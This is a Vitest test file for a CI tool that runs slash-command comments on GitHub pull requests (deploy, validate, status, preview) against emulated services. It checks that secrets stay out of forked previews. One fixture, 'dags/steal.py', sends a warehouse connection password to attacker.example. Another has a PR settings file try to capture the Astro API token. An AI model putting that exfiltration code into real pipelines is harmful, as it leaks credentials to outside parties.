import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { commentCommand } from "../../src/cli/command-command.js";
import { runCli } from "../../src/cli/main.js";
import { startAstroEmulator } from "../support/astro-emulator.js";
import { startGitHubEmulator, type GitHubEmulator } from "../support/github-emulator.js";
import { createTempGitRepo, type TempGitRepo } from "../support/git-repo.js";
import { commentPayload } from "./support.js";
import { tempDirPath } from "../support/temp-dir.js";

describe("astro-ci command", () => {
  let emulator: GitHubEmulator;
  let repo: TempGitRepo;
  let out: string;
  const io = () => ({ stdout: (t: string) => (out += t), cwd: repo.dir });
  beforeEach(async () => {
    emulator = await startGitHubEmulator();
    repo = createTempGitRepo({ "astro-ci.yaml": "deployments:\n  - branch: develop\n    deployment-name: stg\n    name: staging\n  - branch: main\n    deployment-name: prod\n    name: production\n    protected: true\ncommands:\n  prefix: /ci\n  permissions:\n    status: write\n", "dags/a.py": "x = 1\n" });
    repo.commit("base");
    out = "";
  });
  afterEach(async () => {
    expect(emulator.validationErrors).toEqual([]);
    expect(emulator.responseErrors).toEqual([]);
    await emulator.close();
    repo.cleanup();
  });
  const env = (extra: Record<string, string> = {}) => ({ GITHUB_TOKEN: "ghs_test", GITHUB_API_URL: emulator.url, GITHUB_REPOSITORY: "o/r", GITHUB_EVENT_NAME: "issue_comment", PATH: process.env.PATH, ...extra });
  const event = (body: string, extra: Record<string, unknown> = {}) => {
    const seeded = emulator.seedComment(7, body, "alice");
    const file = join(tempDirPath("astro-ci-event-"), "event.json");
    writeFileSync(file, JSON.stringify(commentPayload({ body, commentId: seeded.id, ...extra })));
    return file;
  };

  it("prints the JSON answer; a refusal exits 0; the prefix and permissions come from commands:", async () => {
    emulator.seedPull({ number: 7, headSha: "c".repeat(40) });
    emulator.state.permissions.set("alice", "write");
    const code = await commentCommand(["--event", event("/ci deploy production"), "--format", "json"], io(), env());
    expect(code).toBe(0);
    expect(JSON.parse(out)).toEqual({ command: "deploy", accepted: false, reason: expect.stringMatching(/protected/), sha: "c".repeat(40), results: null });
    out = "";
    emulator.state.permissions.set("alice", "read");
    expect(await commentCommand(["--event", event("/ci status"), "--format", "json"], io(), env())).toBe(0);
    expect(JSON.parse(out)).toMatchObject({ command: "status", accepted: false });
    out = "";
    expect(await commentCommand(["--event", event("/astro help"), "--format", "json"], io(), env())).toBe(0);
    expect(JSON.parse(out)).toMatchObject({ command: null, accepted: false, reason: "the comment is not a command" });
  });

  it("an event file that is missing, a folder or not JSON is exit 2 naming that cause (a missing file said 'give the webhook payload as JSON')", async () => {
    const run = async (path: string) => {
      let stderr = "";
      const code = await runCli(["command", "--event", path], { stdout: () => undefined, stderr: (t) => (stderr += t), cwd: repo.dir, isTty: false, env: env() });
      return { code, stderr };
    };
    expect(await run("missing.json")).toEqual({ code: 2, stderr: "astro-ci: missing.json: cannot open: no such file or folder Fix: check the path (relative paths are relative to the current directory)\n" });
    expect(await run("dags")).toMatchObject({ code: 2, stderr: expect.stringContaining("dags: cannot read: is a folder") });
    writeFileSync(join(repo.dir, "event.json"), "{ not json");
    expect(await run("event.json")).toMatchObject({ code: 2, stderr: expect.stringMatching(/^astro-ci: \S*event\.json: the event payload is not JSON: .* Fix: give the webhook payload as GitHub writes it/) });
  });

  it("an accepted command that fails exits 1 (deploy without an Astro token), after fetching the PR head from origin", async () => {
    const origin = createTempGitRepo({ "dags/a.py": "x = 2\n" });
    try {
      const sha = origin.commit("pr head");
      origin.git("update-ref", "refs/pull/7/head", sha);
      repo.git("remote", "add", "origin", origin.dir);
      emulator.seedPull({ number: 7, headSha: sha });
      emulator.state.permissions.set("alice", "admin");
      const code = await commentCommand(["--event", event("/ci deploy staging")], io(), env());
      expect(out).toMatch(/^failed deploy on [0-9a-f]{12}: .*ASTRO_API_TOKEN/);
      expect(code).toBe(1);
      // One "failed", not "failed: failed:".
      const reply = (emulator.state.comments.get(7) ?? []).find((c) => c.body.includes("astro-ci:commands"))?.body ?? "";
      expect(reply).toMatch(/`deploy` on [0-9a-f]{12}: failed: ASTRO\\_API\\_TOKEN is not set/);
      expect(reply).not.toMatch(/failed: failed/);
      // The worktree of the PR head is gone again; the lock was taken.
      expect(repo.git("worktree", "list").split("\n")).toHaveLength(1);
      expect([...emulator.state.refs.keys()]).toContain("refs/astro-ci/locks/staging");
    } finally {
      origin.cleanup();
    }
  });

  it("a fetch of the PR head that fails (no refs/pull/N/head, origin unreachable) is exit 2: the lock it took is given back, the reply says so with the fix, 😕", async () => {
    const origin = createTempGitRepo({ "dags/a.py": "x = 2\n" });
    try {
      const sha = origin.commit("pr head");
      repo.git("remote", "add", "origin", origin.dir);
      emulator.seedPull({ number: 7, headSha: sha });
      emulator.state.permissions.set("alice", "admin");
      // An earlier command's answer: the reply must not go on saying "done".
      expect(await commentCommand(["--event", event("/ci lock production")], io(), env())).toBe(0);
      await commentCommand(["--event", event("/ci unlock production")], io(), env());
      for (const [why, setup] of [
        ["no refs/pull/7/head on origin", () => undefined],
        ["origin unreachable", () => repo.git("remote", "set-url", "origin", join(origin.dir, "gone"))],
      ] as const) {
        setup();
        out = "";
        emulator.state.reactions.length = 0;
        let stderr = "";
        const code = await runCli(["command", "--event", event("/ci deploy staging")], { stdout: (t) => (out += t), stderr: (t) => (stderr += t), cwd: repo.dir, isTty: false, env: env() });
        expect(code, `${why}: ${stderr}`).toBe(2);
        expect(stderr, why).toMatch(/^astro-ci: could not fetch refs\/pull\/7\/head from origin: git fetch failed: .* Fix: run actions\/checkout before the command step/);
        expect(stderr, why).not.toMatch(/internal error/);
        expect([...emulator.state.refs.keys()].filter((r) => r.includes("staging")), why).toEqual([]);
        const replies = (emulator.state.comments.get(7) ?? []).filter((c) => c.body.includes("astro-ci:commands"));
        expect(replies, why).toHaveLength(1);
        const reply = replies[0]?.body ?? "";
        expect(reply, why).not.toMatch(/✅/);
        expect(reply, why).toMatch(/⚠️ .*\n\n`deploy` on [0-9a-f]{12} failed before it ran \(nothing was run or deployed\) and the lock on `staging` was given back: the pull request head could not be checked out: could not fetch refs\/pull\/7\/head from origin: .*\n\nFix: run actions\/checkout/s);
        expect(emulator.state.reactions.map((r) => r.content), why).toEqual(["eyes", "confused"]);
        expect(repo.git("worktree", "list").split("\n"), why).toHaveLength(1);
      }
    } finally {
      origin.cleanup();
    }
  }, 120_000);

  it("/validate runs the static tier on the PR head with the trusted config, never the PR's", async () => {
    const origin = createTempGitRepo({
      Dockerfile: "FROM quay.io/astronomer/astro-runtime:12.6.0\n",
      "dags/ok.py": "from airflow import DAG\n",
      "dags/broken.py": "from airflow import DAG\ndef f(:\n",
      // The PR tries to switch its own findings off and retarget staging: ignored, the trusted file rules.
      "astro-ci.yaml": "validate:\n  fail-on: never\ncommands:\n  permissions:\n    validate: none\n",
    });
    try {
      const sha = origin.commit("pr head");
      origin.git("update-ref", "refs/pull/7/head", sha);
      repo.git("remote", "add", "origin", origin.dir);
      emulator.seedPull({ number: 7, headSha: sha });
      emulator.state.permissions.set("alice", "write");
      const code = await commentCommand(["--event", event("/ci validate"), "--format", "json"], io(), env());
      const answer = JSON.parse(out) as { accepted: boolean; reason: string; results: { counts: { errors: number } } };
      expect(answer).toMatchObject({ accepted: true, sha });
      expect(answer.results.counts.errors).toBeGreaterThan(0);
      expect(code).toBe(1);
      const body = (emulator.state.comments.get(7) ?? []).find((c) => c.body.includes("astro-ci:commands"))?.body ?? "";
      expect(body).toMatch(/validate` on [0-9a-f]{12}: failed/);
      const runs = [...emulator.state.checkRuns.values()];
      // Its own name: never the validate-dags action's, which branch protection may require (a static-only success
      // under that name would turn a failed import check green).
      expect(runs.map((r) => [r.name, r.head_sha, r.conclusion])).toEqual([["astro-ci / validate-dags (comment)", sha, "failure"]]);
      expect(runs[0]?.annotations.map((a) => a.path)).toContain("dags/broken.py");
      expect(body).toContain("[check run](https://github.com/o/r/runs/");
    } finally {
      origin.cleanup();
    }
  }, 60_000);

  it("/validate in a repository without astro-ci.yaml (optional, as the README says) runs with the defaults", async () => {
    const origin = createTempGitRepo({
      Dockerfile: "FROM quay.io/astronomer/astro-runtime:12.6.0\n",
      "dags/ok.py": "from airflow import DAG\n",
      "dags/broken.py": "from airflow import DAG\ndef f(:\n",
      // The PR brings its own astro-ci.yaml: still never read, the defaults apply.
      "astro-ci.yaml": "validate:\n  fail-on: never\n",
    });
    try {
      repo.git("rm", "-q", "astro-ci.yaml");
      repo.commit("no config");
      const sha = origin.commit("pr head");
      origin.git("update-ref", "refs/pull/7/head", sha);
      repo.git("remote", "add", "origin", origin.dir);
      emulator.seedPull({ number: 7, headSha: sha });
      emulator.state.permissions.set("alice", "write");
      const code = await commentCommand(["--event", event("/astro validate"), "--format", "json"], io(), env());
      // Was: "failed: config file not found" for a file nobody asked for.
      const answer = JSON.parse(out) as { accepted: boolean; reason: string; results: { counts: { errors: number } } };
      expect(answer).toMatchObject({ command: "validate", accepted: true, sha, reason: expect.stringMatching(/^\d+ DAGs, [1-9]\d* errors/) });
      expect(code).toBe(1);
    } finally {
      origin.cleanup();
    }
  }, 60_000);

  it("/deploy ships the PR head's DAGs (DAG-only, no docker) to the target through the Astro API", async () => {
    const astro = await startAstroEmulator();
    const origin = createTempGitRepo({ "astro/Dockerfile": "FROM quay.io/astronomer/astro-runtime:12.1.0\n", "astro/dags/a.py": "from airflow import DAG\n" });
    try {
      repo.write({ "astro/Dockerfile": "FROM quay.io/astronomer/astro-runtime:12.1.0\n", "astro-ci.yaml": "projects:\n  - path: astro\ndeployments:\n  - branch: develop\n    deployment-name: stg\n    name: staging\n    wait: false\n" });
      repo.commit("trusted config");
      const sha = origin.commit("pr head");
      origin.git("update-ref", "refs/pull/7/head", sha);
      repo.git("remote", "add", "origin", origin.dir);
      emulator.seedPull({ number: 7, headSha: sha });
      emulator.state.permissions.set("alice", "write");
      astro.addDeployment({ name: "stg" });
      const code = await commentCommand(["--event", event("/astro deploy staging"), "--format", "json"], io(), env({ ASTRO_API_TOKEN: "test-token", ASTRO_API_URL: astro.url, ASTRO_ORGANIZATION_ID: astro.organizationId }));
      expect(JSON.parse(out)).toMatchObject({ command: "deploy", accepted: true, sha, results: { status: "deployed" } });
      expect(code).toBe(0);
      expect(astro.uploads.at(-1)?.entries.map((e) => e.path)).toEqual(["dags/a.py"]);
      expect(astro.validationErrors).toEqual([]);
      expect(astro.responseErrors).toEqual([]);
    } finally {
      origin.cleanup();
      await astro.close();
    }
  }, 60_000);

  it("/status shows the locks, the PR's preview, the last deploy per target and the latest checks on the head", async () => {
    const astro = await startAstroEmulator();
    try {
      writeFileSync(join(repo.dir, "astro-ci.yaml"), "deployments:\n  - branch: develop\n    deployment-name: stg\n    name: staging\npreviews:\n  template-deployment-name: tmpl\n");
      repo.commit("previews");
      const stg = astro.addDeployment({ name: "stg" });
      astro.addDeployment({ name: "tmpl" });
      astro.addDeployment({ name: "r-pr-7", description: "[astro-ci preview repo=o/r project=. pr=7]" });
      astro.addDeployment({ name: "r-pr-8", description: "[astro-ci preview repo=o/r project=. pr=8]" });
      astro.deploys.push({ id: "cldeploystatus00000000001", deploymentId: stg.id, type: "DAG_ONLY", status: "DEPLOYED", git: { provider: "GENERIC", commitSha: "a".repeat(40), remoteUrl: "https://example.com/r.git" }, createdAt: "2025-12-31T00:00:00Z", blobId: "b" });
      const head = "d".repeat(40);
      emulator.seedPull({ number: 7, headSha: head });
      emulator.state.permissions.set("alice", "read");
      emulator.state.checkRuns.set(1, { id: 1, name: "astro-ci / validate-dags", head_sha: head, status: "completed", conclusion: "failure", output: {}, annotations: [], annotationBatches: [] });
      emulator.state.checkRuns.set(2, { id: 2, name: "astro-ci / validate-dags (comment)", head_sha: head, status: "completed", conclusion: "success", output: {}, annotations: [], annotationBatches: [] });
      const code = await commentCommand(["--event", event("/astro status"), "--format", "json"], io(), env({ ASTRO_API_TOKEN: "test-token", ASTRO_API_URL: astro.url, ASTRO_ORGANIZATION_ID: astro.organizationId }));
      expect(code).toBe(0);
      expect(JSON.parse(out)).toMatchObject({
        command: "status",
        accepted: true,
        results: {
          locks: [{ target: "staging", taken: false }],
          previews: [{ name: "r-pr-7", project: "." }],
          deploys: [{ target: "staging", commit: "a".repeat(40), at: "2025-12-31T00:00:00Z" }],
          checks: [
            { name: "astro-ci / validate-dags", conclusion: "failure" },
            { name: "astro-ci / validate-dags (comment)", conclusion: "success" },
          ],
        },
      });
      const reply = emulator.state.comments.get(7)?.at(-1)?.body ?? "";
      expect(reply).toContain("r-pr-7");
      expect(reply).not.toContain("r-pr-8");
      expect(reply).toContain("aaaaaaaaaaaa");
      expect(astro.requests.every((r) => r.method === "GET")).toBe(true);
      expect(astro.validationErrors).toEqual([]);
      expect(astro.responseErrors).toEqual([]);
    } finally {
      await astro.close();
    }
  });

  it("/preview creates the PR's preview DAG-only from the PR head, with settings from the trusted checkout, docker never called", async () => {
    const { startAirflowEmulator } = await import("../support/airflow-emulator.js");
    const airflow = await startAirflowEmulator();
    const astro = await startAstroEmulator({ deployDurationMs: 0, airflowApiUrl: airflow.apiUrl });
    const origin = createTempGitRepo({
      Dockerfile: "FROM quay.io/astronomer/astro-runtime:12.1.0\n",
      "dags/pr_dag.py": "from airflow import DAG\n",
      // The PR's own settings file tries to read the job's Astro token into a variable: never read.
      "settings.yaml": "airflow:\n  variables:\n    - variable_name: stolen\n      variable_value: ${ASTRO_API_TOKEN}\n",
    });
    try {
      // The default name, {project}-pr-{pr}: the root project is named after the repository (o/r), as in the
      // branch-deploy workflow, never after the PR's temp worktree folder (astro-ci-pr-<random>-pr-7).
      writeFileSync(join(repo.dir, "astro-ci.yaml"), "previews:\n  template-deployment-name: tmpl\n  airflow-settings: settings.yaml\n");
      writeFileSync(join(repo.dir, "settings.yaml"), "airflow:\n  variables:\n    - variable_name: environment\n      variable_value: preview\n");
      repo.commit("previews");
      const sha = origin.commit("pr head");
      origin.git("update-ref", "refs/pull/7/head", sha);
      repo.git("remote", "add", "origin", origin.dir);
      astro.addDeployment({ name: "tmpl" });
      emulator.seedPull({ number: 7, headSha: sha });
      emulator.state.permissions.set("alice", "write");
      const code = await commentCommand(["--event", event("/astro preview"), "--format", "json"], io(), env({ ASTRO_API_TOKEN: "test-token", ASTRO_API_URL: astro.url, ASTRO_ORGANIZATION_ID: astro.organizationId }));
      expect(JSON.parse(out)).toMatchObject({ command: "preview", accepted: true, sha });
      expect(code).toBe(0);
      const preview = [...astro.deployments.values()].find((d) => d.name === "r-pr-7");
      expect(preview?.description).toContain("[astro-ci preview repo=o/r project=. pr=7]");
      expect(astro.uploads.at(-1)?.entries.map((e) => e.path)).toEqual(["dags/pr_dag.py"]);
      expect(astro.environmentObjects.map((o) => o.objectKey)).toEqual(["environment"]);
      expect(JSON.stringify(astro.environmentObjects)).not.toContain("test-token");
      expect(astro.validationErrors).toEqual([]);
      expect(airflow.validationErrors).toEqual([]);
    } finally {
      origin.cleanup();
      await astro.close();
      await airflow.close();
    }
  }, 120_000);

  it("/preview of a fork's PR (previews.forks: true, commands.forks: dags-only) deploys its DAGs without any secret value, and the reply says what was left out", async () => {
    const { startAirflowEmulator } = await import("../support/airflow-emulator.js");
    const airflow = await startAirflowEmulator();
    const astro = await startAstroEmulator({ deployDurationMs: 0, airflowApiUrl: airflow.apiUrl });
    const origin = createTempGitRepo({
      Dockerfile: "FROM quay.io/astronomer/astro-runtime:12.1.0\n",
      // Airflow runs this when it parses it, with the preview's connections.
      "dags/steal.py": "from urllib.request import urlopen\nfrom airflow.hooks.base import BaseHook\nurlopen('https://attacker.example/?p=' + BaseHook.get_connection('warehouse').password)\n",
    });
    try {
      writeFileSync(join(repo.dir, "astro-ci.yaml"), "previews:\n  template-deployment-name: tmpl\n  forks: true\n  airflow-settings: settings.yaml\ncommands:\n  forks: dags-only\n");
      writeFileSync(join(repo.dir, "settings.yaml"), "airflow:\n  connections:\n    - conn_id: warehouse\n      conn_type: postgres\n      conn_host: db.example.com\n      conn_password: ${PREVIEW_DB_PASSWORD}\n  variables:\n    - variable_name: environment\n      variable_value: preview\n");
      repo.commit("fork previews");
      const sha = origin.commit("fork head");
      origin.git("update-ref", "refs/pull/11/head", sha);
      repo.git("remote", "add", "origin", origin.dir);
      astro.addDeployment({ name: "tmpl", environmentVariables: [{ key: "WAREHOUSE_TOKEN", value: "tmpl-secret", isSecret: true }, { key: "LOG_LEVEL", value: "INFO", isSecret: false }] });
      emulator.seedPull({ number: 11, headSha: sha, headRepo: "mallory/r" });
      emulator.state.permissions.set("alice", "maintain");
      const seeded = emulator.seedComment(11, "/astro preview", "alice");
      const file = join(tempDirPath("astro-ci-event-"), "event.json");
      writeFileSync(file, JSON.stringify(commentPayload({ body: "/astro preview", commentId: seeded.id, pr: 11 })));
      const code = await commentCommand(["--event", file, "--format", "json"], io(), env({ ASTRO_API_TOKEN: "test-token", ASTRO_API_URL: astro.url, ASTRO_ORGANIZATION_ID: astro.organizationId, PREVIEW_DB_PASSWORD: "real-db-password" }));
      expect(code).toBe(0);
      expect(JSON.parse(out)).toMatchObject({ command: "preview", accepted: true, sha, reason: expect.stringContaining("not given to this fork's preview: the template's connections, variables and environment variables, connection warehouse (conn_password, ${PREVIEW_DB_PASSWORD})") });
      const preview = [...astro.deployments.values()].find((d) => d.name === "r-pr-11");
      expect(preview?.environmentVariables ?? []).toEqual([]);
      expect(astro.environmentObjects.map((o) => o.objectKey)).toEqual(["environment"]);
      expect(JSON.stringify([preview, astro.environmentObjects])).not.toContain("real-db-password");
      expect(astro.uploads.at(-1)?.entries.map((e) => e.path)).toEqual(["dags/steal.py"]);
      const reply = (emulator.state.comments.get(11) ?? []).find((c) => c.body.includes("astro-ci:commands"))?.body ?? "";
      expect(reply).toContain("not given to this fork's preview");
      expect(reply).not.toContain("real-db-password");
      expect(astro.validationErrors).toEqual([]);
      expect(airflow.validationErrors).toEqual([]);
    } finally {
      origin.cleanup();
      await astro.close();
      await airflow.close();
    }
  }, 120_000);

  it("a bad commands: section is a configuration error naming the file", async () => {
    repo.write({ "astro-ci.yaml": "commands:\n  prefix: astro\n" });
    await expect(commentCommand(["--event", event("/astro help")], io(), env())).rejects.toThrow(/prefix/);
    repo.write({ "astro-ci.yaml": "commands:\n  forks: always\n" });
    await expect(commentCommand(["--event", event("/astro help")], io(), env())).rejects.toThrow(/commands.forks/);
    expect(emulator.requests).toEqual([]);
  });

  it("configuration errors exit 2 through the CLI", async () => {
    const file = event("/ci help");
    const saved = { ...process.env };
    try {
      delete process.env.GITHUB_TOKEN;
      process.env.GITHUB_REPOSITORY = "o/r";
      let err = "";
      const code = await runCli(["command", "--event", file], { stdout: () => undefined, stderr: (t) => (err += t), cwd: repo.dir, isTty: false });
      expect(code).toBe(2);
      expect(err).toMatch(/GITHUB_TOKEN/);
    } finally {
      process.env = saved;
    }
    expect(emulator.requests).toEqual([]);
  });
});

describe("astro-ci command: an event file that is JSON but not an object", () => {
  it("null, an array or a string is exit 2 naming the file, never an internal error", async () => {
    const repo = createTempGitRepo({ "dags/a.py": "x = 1\n" });
    const saved = { ...process.env };
    try {
      repo.commit("base");
      delete process.env.GITHUB_EVENT_NAME;
      process.env.GITHUB_REPOSITORY = "o/r";
      process.env.GITHUB_TOKEN = "ghs_test";
      for (const [text, shape] of [["null", "null"], ["[1]", "an array"], ['"/astro help"', "a string"]] as const) {
        const file = join(tempDirPath(), "event-odd.json");
        writeFileSync(file, text);
        let err = "";
        const code = await runCli(["command", "--event", file], { stdout: () => undefined, stderr: (t) => (err += t), cwd: repo.dir, isTty: false });
        expect(err).toContain(`event-odd.json: the event payload is not a JSON object (it is ${shape})`);
        expect(err).not.toMatch(/internal error/);
        expect(code).toBe(2);
      }
    } finally {
      process.env = saved;
      repo.cleanup();
    }
  });
});
